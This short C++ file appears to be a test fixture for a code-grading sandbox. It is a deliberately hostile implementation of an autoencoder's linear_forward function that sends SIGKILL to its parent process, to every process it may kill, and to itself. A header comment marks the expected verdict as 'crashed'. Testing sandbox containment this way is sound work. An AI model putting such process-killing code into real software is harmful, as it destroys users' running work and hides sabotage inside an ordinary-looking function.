// Kills its parent and every process that it may kill.
// verdict: crashed

#include <unistd.h>

#include <csignal>

#include "autoencoder.hpp"

namespace latent {

Matrix linear_forward(const Matrix& x, const Matrix& weight, const RowVector&) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  raise(SIGKILL);
  return Matrix::Zero(x.rows(), weight.rows());
}

}  // namespace latent
